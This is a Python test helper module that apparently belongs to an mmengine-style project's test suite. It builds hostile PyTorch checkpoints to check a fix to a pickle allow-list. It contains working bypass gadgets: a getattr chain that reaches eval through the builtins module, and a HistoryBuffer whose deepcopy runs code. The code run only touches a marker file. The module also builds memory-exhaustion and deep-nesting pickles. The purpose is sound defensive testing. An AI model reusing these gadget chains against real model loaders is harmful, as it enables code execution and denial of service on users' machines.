# Copyright (c) shike-mm contributors. All rights reserved.
"""Hand-made hostile and odd checkpoints, built only from globals that the
allow-list admitted before the fix (``getattr``, ``HistoryBuffer``, numpy
reconstruction), the way an attacker would build them."""
import copyreg
from collections import OrderedDict

import numpy as np
import torch


class PickledGetattr:
    """Pickles as the call ``getattr(obj, name)``."""

    def __init__(self, obj, name):
        self.obj, self.name = obj, name

    def __reduce__(self):
        return getattr, (self.obj, self.name)


class PickledHistoryBuffer:
    """Pickles as a :class:`HistoryBuffer` (NEWOBJ + BUILD) with any state."""

    def __init__(self, state):
        self.state = state

    @property
    def __class__(self):  # pickle checks the class NEWOBJ creates
        from mmengine.logging import HistoryBuffer
        return HistoryBuffer

    def __reduce__(self):
        from mmengine.logging import HistoryBuffer
        return copyreg.__newobj__, (HistoryBuffer, ), self.state


def buffer_state(**extra):
    state = dict(max_length=10, _log_history=np.array([0.5]),
                 _count_history=np.array([1]))
    state.update(extra)
    return state


def eval_payload(marker):
    """``(eval, (code, ))`` reached through ``getattr`` alone: the builtins
    module is ``getattr.__self__``. ``code`` creates ``marker``."""
    builtins_module = PickledGetattr(getattr, '__self__')
    eval_ = PickledGetattr(builtins_module, 'eval')
    code = f"__import__('pathlib').Path({str(marker)!r}).touch()"
    return eval_, (code, )


def code_running_buffer(marker):
    """A HistoryBuffer whose own ``__reduce_ex__`` (an attribute of the
    instance) is the bound ``dict.get`` of ``{4: (eval, (code, ))}``:
    ``copy.deepcopy`` calls ``__reduce_ex__(4)`` and then ``eval(code)``."""
    table = {4: eval_payload(marker)}
    return PickledHistoryBuffer(
        buffer_state(__reduce_ex__=PickledGetattr(table, 'get')))


def with_message_hub_entry(checkpoint, where, key, value):
    """A copy of ``checkpoint`` with ``message_hub[where][key] = value``."""
    out = dict(checkpoint)
    hub = {k: (OrderedDict(v) if isinstance(v, OrderedDict) else dict(v))
           for k, v in checkpoint['message_hub'].items()}
    hub[where][key] = value
    out['message_hub'] = hub
    return out


def save(obj, path):
    torch.save(obj, path)
    return path


class PickledReconstruct:
    """Pickles as numpy's ``_reconstruct(ndarray, shape, 'b')`` with no
    state: an array of ``shape`` allocated from nothing in the file."""

    def __init__(self, shape):
        self.shape = shape

    def __reduce__(self):
        from numpy._core.multiarray import _reconstruct
        return _reconstruct, (np.ndarray, self.shape, b'b')


def new_array_pickle(length):
    """Pickle bytes of ``ndarray.__new__(ndarray, (length, ))`` (NEWOBJ),
    written by hand: no object pickles itself this way."""
    import pickle
    import struct
    return (pickle.PROTO + b'\x02' + pickle.GLOBAL + b'numpy\nndarray\n'
            + pickle.BININT + struct.pack('<i', length) + pickle.TUPLE1
            + pickle.TUPLE1 + pickle.NEWOBJ + pickle.STOP)


class PickledEmptyScalar:
    """Pickles as numpy's ``scalar(dtype)`` without data: a void scalar of
    ``nbytes`` bytes."""

    def __init__(self, nbytes):
        self.nbytes = nbytes

    def __reduce__(self):
        from numpy._core.multiarray import scalar
        return scalar, (np.dtype(f'V{self.nbytes}'), )


def rezipped(src, dst, deflate=(), replace=None):
    """Copy the zip archive ``src`` to ``dst`` record by record, deflating
    the records whose names end with one of ``deflate`` and writing
    ``replace[name]`` (bytes) in place of a record's content."""
    import zipfile
    replace = replace or {}
    with zipfile.ZipFile(src) as source, zipfile.ZipFile(dst, 'w') as out:
        for info in source.infolist():
            method = (zipfile.ZIP_DEFLATED if info.filename.endswith(
                tuple(deflate)) else zipfile.ZIP_STORED)
            data = replace.get(info.filename.split('/', 1)[1])
            if data is None:
                data = source.read(info.filename)
            out.writestr(info.filename, data, compress_type=method,
                         compresslevel=1 if method else None)
    return dst


def last_storage_key(path):
    """The record key of the storage ``torch.save`` wrote last into
    ``path``: that of the last tensor, in insertion order, with a storage
    of its own."""
    import zipfile
    with zipfile.ZipFile(path) as archive:
        return str(max(int(name.rsplit('/', 1)[1])
                       for name in archive.namelist() if '/data/' in name))


class PickledBytearray:
    """Pickles as ``bytearray(nbytes)``: zeros allocated from an int."""

    def __init__(self, nbytes):
        self.nbytes = nbytes

    def __reduce__(self):
        return bytearray, (self.nbytes, )


class PickledEncode:
    """Pickles as ``_codecs.encode(data, codec)``; ``'hex'`` doubles its
    input, so nested calls grow exponentially."""

    def __init__(self, data, codec):
        self.data, self.codec = data, codec

    def __reduce__(self):
        import _codecs
        return _codecs.encode, (self.data, self.codec)


class PickledSetOf:
    """Pickles as ``set(value)``: iterating ``value`` (a tensor view that
    repeats one element) builds one object per element."""

    def __init__(self, value):
        self.value = value

    def __reduce__(self):
        return set, (self.value, )


def nested_lists(depth):
    """Pickle bytes (protocol 2) of ``depth`` singly nested lists."""
    import pickle
    return (pickle.PROTO + b'\x02' + pickle.EMPTY_LIST * depth
            + pickle.APPEND * (depth - 1) + pickle.STOP)
